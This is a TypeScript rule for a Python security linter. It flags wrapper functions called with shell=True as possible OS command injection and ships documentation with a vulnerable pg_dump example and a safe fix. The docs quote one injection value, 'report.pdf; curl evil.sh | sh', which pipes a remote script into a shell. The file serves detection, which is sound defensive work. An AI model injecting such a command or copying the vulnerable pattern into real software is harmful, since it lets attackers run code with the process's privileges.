import { defineRule } from '../../engine/rule';
import { isBuiltinCall } from '../../engine/scope';
import { argument, callArgs, calleeTail, unparen } from '../../engine/syntax';
import { ALWAYS_SHELL_FUNCTIONS, analyseCommand, describeSources, SUBPROCESS_FUNCTIONS } from '../util/process';

/** Calls SEC602/SEC605 already judge, or whose `shell=` is not about running a command. */
function handledElsewhere(name: string | null): boolean {
  if (!name) return false;
  return SUBPROCESS_FUNCTIONS.has(name) || ALWAYS_SHELL_FUNCTIONS.has(name) || name.startsWith('subprocess.') || name.startsWith('asyncio.');
}

export default defineRule({
  id: 'SEC604',
  name: 'call-with-shell-true',
  local: true,
  summary: 'A function other than `subprocess` is called with `shell=True`, probably a wrapper that runs a shell command',
  owasp: { '2025': 'A05', '2021': 'A03' },
  cwe: [78],
  severity: 'warning',
  confidence: 'medium',
  aliases: ['B604', 'S604'],
  tags: ['injection', 'subprocess'],
  nodeTypes: ['call'],
  appliesTo: (file) => !file.isTest,
  check(call, ctx) {
    const args = callArgs(call);
    const shell = args.keywords.get('shell');
    if (!shell) return;
    const value = unparen(shell);
    // Only `True` or a non-zero number: `shell="/bin/bash"` (invoke, fabric) names a shell
    // the library always uses, and `shell=flag` is decided elsewhere.
    if (value.type !== 'true' && !(value.type === 'integer' && /[1-9]/.test(value.text))) return;
    const name = ctx.callName(call);
    if (handledElsewhere(name) || isBuiltinCall(call, 'dict', ctx)) return;
    // Expectations about a call, not a call: `mock_run.assert_called_with(cmd, shell=True)`, `mock.call(...)`.
    if (/^assert_/.test(calleeTail(call) ?? '') || name === 'unittest.mock.call' || name === 'mock.call') return;
    const fn = call.childForFieldName('function') ?? call;
    const label = `\`${name ?? ctx.textOf(fn).replace(/\s+/g, '')}()\``;
    // `functools.partial(subprocess.run, shell=True)` binds the shell for every later call.
    if (name === 'functools.partial') {
      const target = args.positional[0];
      const targetName = target ? ctx.resolve(unparen(target)) : null;
      if (!targetName || !SUBPROCESS_FUNCTIONS.has(targetName)) return;
      ctx.report(fn, { message: `\`functools.partial(${targetName}, shell=True)\` makes a function that runs every command it is given through the shell` });
      return;
    }
    const command = argument(args, 0, 'cmd') ?? args.keywords.get('command') ?? args.keywords.get('args') ?? null;
    if (!command) {
      ctx.report(fn, { message: `${label} is called with \`shell=True\`: check that it does not run a command built from untrusted input`, confidence: 'low' });
      return;
    }
    const info = analyseCommand(command, ctx, false);
    if (info.kind === 'dynamic') {
      ctx.report(fn, { message: `${label} is called with \`shell=True\` and a command built from ${describeSources(info.sources)}` });
      return;
    }
    ctx.report(fn, {
      message: `${label} is called with \`shell=True\` and a ${info.kind === 'constant' ? 'constant command' : 'command whose interpolated values are quoted or numeric'}`,
      severity: 'info',
      confidence: 'low',
    });
  },
  docs: {
    what: `Finds calls with a literal \`shell=True\` (or \`shell=1\`) to any function other than the \`subprocess\`, \`os\` and \`asyncio\` process functions (which SEC602 and SEC605 check): in-house wrappers such as \`run(cmd, shell=True)\` or \`utils.execute(cmd, shell=True)\`, and \`functools.partial(subprocess.run, shell=True)\`. A command built at run time is a warning; a constant command, or one whose interpolated values all go through \`shlex.quote\` or a number conversion, is information with low confidence. \`shell="/bin/bash"\` (invoke and fabric name the shell they always use that way), \`shell=flag\`, \`dict(shell=True)\`, mock expectations (\`assert_called_with(..., shell=True)\`, \`mock.call(...)\`) and test files are not reported.`,
    why: `A parameter called \`shell\` almost always ends up as \`subprocess.Popen(..., shell=shell)\`: the wrapper runs its first argument as a shell script. A value such as \`report.pdf; curl evil.sh | sh\` interpolated into the command runs extra commands with the process's privileges, and because the \`subprocess\` call is hidden in the wrapper, the checks for \`subprocess\` itself do not see it.`,
    example: `from ops.shell import execute

def backup(database: str):
    execute(f"pg_dump {database} > /backups/{database}.sql", shell=True)`,
    useInstead: `from ops.shell import execute

def backup(database: str):
    execute(["pg_dump", "--file", f"/backups/{database}.sql", "--", database])`,
    references: [
      { title: 'Python docs: subprocess — Security considerations', url: 'https://docs.python.org/3/library/subprocess.html#security-considerations' },
      { title: 'OWASP OS Command Injection Defense Cheat Sheet', url: 'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html' },
      { title: 'Bandit B604: any_other_function_with_shell_equals_true', url: 'https://bandit.readthedocs.io/en/latest/plugins/b604_any_other_function_with_shell_equals_true.html' },
    ],
  },
});
